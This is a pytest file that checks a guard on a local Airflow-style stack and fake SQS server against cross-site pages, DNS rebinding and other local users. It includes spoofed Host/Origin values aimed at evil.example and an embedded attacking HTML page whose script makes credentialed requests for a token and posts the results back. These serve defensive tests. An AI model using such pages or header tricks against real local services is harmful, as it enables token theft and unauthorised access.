"""Web pages and other users of this machine, which try to reach the servers of the local stack."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse, Response
from starlette.routing import Route

from local import guard
from local.guard import OWN_NAMES, refusal
from local.processes import ProcessGroup, free_ports
from local.sqs_server import create_queues, queue_url, sqs_client, sqs_command
from local.web_server import in_a_thread
from tests.conftest import PROJECT

pytestmark = pytest.mark.one_stack

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
OWN = {"host": "127.0.0.1:8080"}
CROSS = {"sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate"}


REFUSED: list[tuple[str, dict[str, str]]] = [
    ("GET", {}),
    ("GET", {"host": "evil.example"}),
    ("GET", {"host": "evil.example:8080", "origin": "http://evil.example:8080"}),
    ("GET", {"host": "127.0.0.1.evil.example:8080"}),
    ("GET", {"host": "127.0.0.1@evil.example"}),
    ("GET", {"host": "0.0.0.0:8080"}),
    ("POST", {**OWN, "origin": "http://evil.example"}),
    ("POST", {**OWN, "origin": "null"}),
    ("POST", {**OWN, "origin": "http://127.0.0.1:9999"}),
    ("POST", {**OWN, "origin": "http://127.0.0.1:9999", "sec-fetch-site": "same-site"}),
    ("POST", {**OWN, "origin": "http://evil.example", **CROSS, "sec-fetch-dest": "document"}),
    ("GET", {**OWN, **CROSS, "sec-fetch-dest": "iframe"}),
    ("GET", {**OWN, "sec-fetch-site": "same-site", "sec-fetch-mode": "no-cors", "sec-fetch-dest": "script"}),
]


@pytest.mark.parametrize(("method", "headers"), REFUSED)
def test_pages_of_other_names_sites_and_ports_are_refused(method, headers):
    assert refusal(method, headers)


@pytest.mark.parametrize(
    ("method", "headers"),
    [
        ("POST", OWN),
        ("POST", {"host": "localhost:8080"}),
        ("POST", {**OWN, "origin": "http://127.0.0.1:8080"}),
        ("POST", {**OWN, "origin": "http://127.0.0.1:8080", "sec-fetch-site": "same-origin"}),
        # A forwarder of ports that keeps the page's own name, and asks for localhost.
        ("POST", {"host": "localhost:8080", "origin": "https://space.example", "sec-fetch-site": "same-origin"}),
        ("GET", {**OWN, "sec-fetch-site": "none", "sec-fetch-mode": "navigate", "sec-fetch-dest": "document"}),
        ("GET", {**OWN, **CROSS, "sec-fetch-dest": "document"}),
    ],
)
def test_programs_the_stacks_own_pages_and_links_to_them_are_let_in(method, headers):
    assert refusal(method, headers) == ""


@given(st.text())
def test_no_other_name_passes_for_one_of_this_machine(host):
    if host.lower().rpartition(":")[0] not in OWN_NAMES and host.lower() not in OWN_NAMES:
        assert refusal("GET", {"host": host})


# Over real HTTP


@pytest.fixture
def reached() -> list[str]:
    """What got through to the application."""
    return []


@pytest.fixture
def airflow(reached: list[str]) -> Iterator[str]:
    """The URL of an application that hands out tokens and obeys a cookie, as Airflow 3.1 does, behind the guard."""

    async def answer(request: Request) -> Response:
        reached.append(f"{request.method} {request.url.path}")
        return JSONResponse({"access_token": "the-token"}, headers={"Set-Cookie": "_token=t"})

    route = Route("/{path:path}", answer, methods=["GET", "POST", "PUT"])
    with in_a_thread(lambda: Starlette(routes=[route])) as url:
        yield url.removesuffix("/v1")


ASK = "import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1]).read())"


@pytest.mark.skipif(not guard.TCP_TABLE.exists(), reason="only Linux says whose a connection is")
def test_another_user_of_this_machine_gets_no_token(airflow, reached, monkeypatch):
    assert httpx.get(f"{airflow}/auth/token").json() == {"access_token": "the-token"}
    reached.clear()
    if os.getuid() == 0:  # root may become another one
        command = ["/usr/bin/env", "python3", "-c", ASK, f"{airflow}/auth/token"]
        asked = subprocess.run(command, user=65534, capture_output=True, text=True, cwd="/")
        assert "403" in asked.stderr
    monkeypatch.setattr(os, "getuid", lambda: 4711)
    monkeypatch.setattr(guard, "TCP_TABLE", table_of_owner(guard.TCP_TABLE, 4712))
    assert httpx.get(f"{airflow}/auth/token").status_code == 403
    assert reached == []
    assert httpx.get(f"{airflow}/api/v2/version").is_success, "all else asks for the token itself"


def table_of_owner(table: Path, uid: int) -> Path:
    class Table:
        def exists(self) -> bool:
            return True

        def read_text(self) -> str:
            rows = [line.split() for line in table.read_text().splitlines()]
            return "\n".join(" ".join([*row[:7], str(uid), *row[8:]]) for row in rows)

    return Table()  # type: ignore[return-value]


ATTACKING_PAGE = """<iframe name=f></iframe><form id=p method=post target=f action="{url}/api/form"></form>
<img src="{url}/api/picture"><script src="{url}/api/script"></script><iframe src="{url}/api/frame"></iframe><script>
const read = [];
const done = name => result => {{ read.push(name + ':' + result); }};
document.getElementById('p').submit();
const text = {{method: 'POST', mode: 'no-cors', credentials: 'include', body: '{{}}'}};
const attacks = [
  fetch('{url}/auth/token', {{credentials: 'include'}}).then(r => r.text()).then(done('token')),
  fetch('{url}/api/post', text).then(r => r.text()).then(done('post')),
  fetch('{url}/api/put', {{method: 'PUT', credentials: 'include'}}).then(r => r.text()).then(done('put'))];
Promise.allSettled(attacks).then(() => fetch('/read', {{method: 'POST', body: read.join()}}))
  .then(() => {{ document.title = 'ended'; }});
</script>"""


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium")
@pytest.mark.parametrize("name", ["127.0.0.1", "rebound.example"])
def test_a_real_browsers_page_of_another_port_or_name_reaches_nothing(airflow, reached, name, tmp_path):
    """The page is on another port; or the stack itself is asked by a name that was pointed to this machine."""
    stolen: list[str] = []
    url = airflow.replace("127.0.0.1", name)

    async def page(request: Request) -> Response:
        if request.method == "POST":
            stolen.append((await request.body()).decode())
            return Response()
        return HTMLResponse(ATTACKING_PAGE.format(url=url))

    with in_a_thread(lambda: Starlette(routes=[Route("/{path:path}", page, methods=["GET", "POST"])])) as evil:
        command = [str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path}"]
        command += ["--host-resolver-rules=MAP rebound.example 127.0.0.1", "--virtual-time-budget=20000", "--dump-dom"]
        shown = subprocess.run([*command, evil], capture_output=True, text=True, timeout=300).stdout
    assert "<title>ended</title>" in shown, "the attacks were made"
    assert reached == []
    assert len(stolen) == 1
    assert "the-token" not in stolen[0]


def test_the_fake_of_sqs_serves_programs_and_no_pages(tmp_path):
    (port,) = free_ports(1)
    url, processes = queue_url(port), ProcessGroup(tmp_path)
    processes.spawn("sqs-server", sqs_command(port), dict(os.environ), PROJECT)
    try:
        import time

        processes.wait_for("sqs-server", lambda: create_queues(url), time.monotonic() + 300)
        assert sqs_client(url).list_queues()["QueueUrls"]
        for headers in ({"Origin": "http://evil.example"}, {"Host": "evil.example"}, {"Sec-Fetch-Site": "same-site"}):
            refused = httpx.get(f"http://127.0.0.1:{port}/?Action=ListQueues", headers=headers)
            assert refused.status_code == 403
            assert "access-control-allow-origin" not in refused.headers
    finally:
        processes.stop()


def test_what_the_stacks_processes_write_is_for_this_user_only(tmp_path):
    processes = ProcessGroup(tmp_path)
    code = "from pathlib import Path; Path('folder').mkdir(); Path('folder/file').touch()"
    processes.spawn("writer", [sys.executable, "-c", code], dict(os.environ), tmp_path)
    processes._running["writer"].wait(300)

    assert stat.S_IMODE((tmp_path / "folder").stat().st_mode) == 0o700
    assert stat.S_IMODE((tmp_path / "folder" / "file").stat().st_mode) == 0o600


def test_airflows_log_servers_listen_on_this_machine_only(tmp_path):
    code = (
        "import local.preloaded_airflow, uvicorn; from airflow.utils.serve_logs import core;"
        "uvicorn.run = lambda app, **options: print('host', options['host']); core.serve_logs(1)"
    )
    environment = {**os.environ, "AIRFLOW_HOME": str(tmp_path), "PYTHONPATH": str(PROJECT)}
    shown = subprocess.run([sys.executable, "-c", code], env=environment, cwd=PROJECT, capture_output=True, text=True)
    assert "host 127.0.0.1" in shown.stdout, shown.stderr
